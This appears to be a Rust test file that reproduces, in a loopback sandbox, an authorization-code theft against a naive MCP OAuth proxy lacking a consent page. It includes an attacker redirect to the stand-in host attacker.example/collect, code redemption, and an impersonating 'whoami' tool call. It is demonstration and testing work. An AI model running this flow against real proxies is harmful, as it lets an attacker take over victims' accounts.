//! The attack works against it, and nothing but the missing consent page is the reason.

use super::*;
use crate::sandbox::{
    browser::Browser,
    http::LoopbackHost,
    mcp_server::{McpServer, Refusal},
    third_party::{ADA, Behaviour, Event as Seen, ThirdParty},
};

const HONEST: &str = "http://127.0.0.1:1/honest/callback";
const ATTACKER: &str = "http://attacker.example/collect";
const VERIFIER: &str = "the-attacker-knows-this-verifier-of-forty-three";

struct Scene {
    third_party: ThirdParty,
    proxy: NaiveProxy,
    _stop: tokio_util::sync::DropGuard,
}

async fn scene() -> Scene {
    let stop = CancellationToken::new();
    let bound = Bound::bind(LoopbackHost::Localhost, 0).await.unwrap();
    let third_party = ThirdParty::start(bound, Behaviour::default(), &stop);
    let bound = Bound::bind(LoopbackHost::Ipv4, 0).await.unwrap();
    let mcp_server = McpServer::start(bound, third_party.origin(), Refusal::ToolError, &stop);
    let bound = Bound::bind(LoopbackHost::Ipv4, 0).await.unwrap();
    let static_client = StaticClient {
        client_id: "static".into(),
        client_secret: "s3cret".into(),
        name: "The proxy".into(),
        redirect_uris: vec![format!("{}{CALLBACK}", bound.origin())],
    };
    third_party.register_client(static_client.clone());
    let around = Surroundings {
        authorization_endpoint: third_party.authorization_endpoint(),
        token_endpoint: third_party.token_endpoint(),
        static_client,
        scope: "read:user".into(),
        mcp_server: mcp_server.url().into(),
    };
    Scene { third_party, proxy: NaiveProxy::start(bound, around, &stop), _stop: stop.drop_guard() }
}

impl Scene {
    async fn post(&self, path: &str, media_type: &str, body: String) -> Value {
        let request = Request::post(format!("{}{path}", self.proxy.origin()))
            .header(header::CONTENT_TYPE, media_type)
            .body(body.into());
        serde_json::from_slice(Fetch::new().send(request.unwrap()).await.unwrap().body()).unwrap()
    }

    /// Registers a client and makes its authorization link.
    async fn link(&self, name: &str, redirect_uri: &str) -> (String, String) {
        let body = json!({ "client_name": name, "redirect_uris": [redirect_uri] }).to_string();
        let client = self.post("/register", "application/json", body).await;
        let client_id = client["client_id"].as_str().unwrap().to_owned();
        let query = url::form_urlencoded::Serializer::new(String::new())
            .extend_pairs([
                ("client_id", client_id.as_str()),
                ("redirect_uri", redirect_uri),
                ("state", "st"),
            ])
            .extend_pairs([("response_type", "code"), ("code_challenge_method", "S256")])
            .append_pair("code_challenge", &s256(VERIFIER))
            .finish();
        let link = format!("{}/authorize?{query}", self.proxy.origin());
        (client_id, link)
    }

    async fn redeem(&self, client_id: &str, code: &str, verifier: &str) -> Value {
        let form = url::form_urlencoded::Serializer::new(String::new())
            .extend_pairs([("grant_type", "authorization_code"), ("client_id", client_id)])
            .extend_pairs([("code", code), ("code_verifier", verifier)])
            .finish();
        self.post("/token", "application/x-www-form-urlencoded", form).await
    }
}

async fn victim(scene: &Scene) -> Browser {
    let mut browser = Browser::new("Ada's browser");
    browser.capture(HONEST);
    browser.capture(ATTACKER);
    let (_, link) = scene.link("Honest", HONEST).await;
    let login = browser.open(&link).await.unwrap();
    let consent = browser.press(&login, "Ada").await.unwrap();
    assert!(browser.press(&consent, "Authorize").await.unwrap().captured, "the honest flow works");
    browser.next_scene();
    browser
}

#[tokio::test]
async fn the_attackers_link_gets_the_victims_code_without_a_page() {
    let scene = scene().await;
    let mut browser = victim(&scene).await;
    let asked_before = scene.third_party.events().count(|e| matches!(e, Seen::ConsentPageShown { .. }));

    let (client_id, link) = scene.link("Claude", ATTACKER).await;
    let end = browser.open(&link).await.unwrap();

    assert!(end.captured && end.url.as_str().starts_with(ATTACKER));
    let asked = scene.third_party.events().count(|e| matches!(e, Seen::ConsentPageShown { .. }));
    assert_eq!(asked, asked_before, "nobody was asked");
    assert_eq!(browser.hops().len(), 4, "proxy, third party, callback, attacker: {:#?}", browser.hops());
    assert_eq!(
        scene.proxy.events().all().last(),
        Some(&Event::CodeSent { client_id: client_id.clone(), redirect_uri: ATTACKER.into() })
    );

    // The attacker redeems the code and is Ada from now on.
    let arrived = Params::parse(end.url.query().unwrap().as_bytes());
    let token = scene.redeem(&client_id, arrived.get("code").unwrap(), VERIFIER).await;
    let body = json!({ "jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {
        "name": "whoami", "arguments": {}, "_meta": {
            "io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientInfo": { "name": "attacker", "version": "1" },
            "io.modelcontextprotocol/clientCapabilities": {} } } });
    let request = Request::post(format!("{}/mcp", scene.proxy.origin()))
        .header(header::ACCEPT, "application/json, text/event-stream")
        .header(header::CONTENT_TYPE, "application/json")
        .header("mcp-protocol-version", "2026-07-28")
        .header("mcp-method", "tools/call")
        .header("mcp-name", "whoami")
        .header(header::AUTHORIZATION, format!("Bearer {}", token["access_token"].as_str().unwrap()))
        .body(body.to_string().into());
    let answer = Fetch::new().send(request.unwrap()).await.unwrap();
    assert!(String::from_utf8_lossy(answer.body()).contains(ADA.email));
}

#[tokio::test]
async fn everything_but_consent_is_right() {
    let scene = scene().await;
    let mut browser = victim(&scene).await;
    let (client_id, link) = scene.link("Honest", HONEST).await;
    let elsewhere = link.replace("honest", "dishonest");
    assert_eq!(browser.open(&elsewhere).await.unwrap().status, 400, "not a registered redirect URI");

    let end = browser.open(&link).await.unwrap();
    let arrived = Params::parse(end.url.query().unwrap().as_bytes());
    assert_eq!(arrived.get("state"), Some("st"));
    let code = arrived.get("code").unwrap();
    assert_eq!(scene.redeem(&client_id, code, "wrong").await["error"], "invalid_grant");

    let end = browser.open(&link).await.unwrap();
    let arrived = Params::parse(end.url.query().unwrap().as_bytes());
    let code = arrived.get("code").unwrap();
    assert!(scene.redeem(&client_id, code, VERIFIER).await["access_token"].is_string());
    assert_eq!(scene.redeem(&client_id, code, VERIFIER).await["error"], "invalid_grant", "codes work once");
}

#[tokio::test]
async fn the_transcript_tells_the_story_without_the_code() {
    let scene = scene().await;
    let mut browser = victim(&scene).await;
    let (_, link) = scene.link("Claude", ATTACKER).await;
    let end = browser.open(&link).await.unwrap();
    let arrived = Params::parse(end.url.query().unwrap().as_bytes());
    let story = browser.hops().iter().map(ToString::to_string).collect::<Vec<_>>().join("\n");
    assert!(story.contains("attacker.example/collect?code=…"));
    assert!(!story.contains(arrived.get("code").unwrap()));
    for secret in scene.third_party.secrets() {
        assert!(!story.contains(secret.expose_secret()));
    }
}
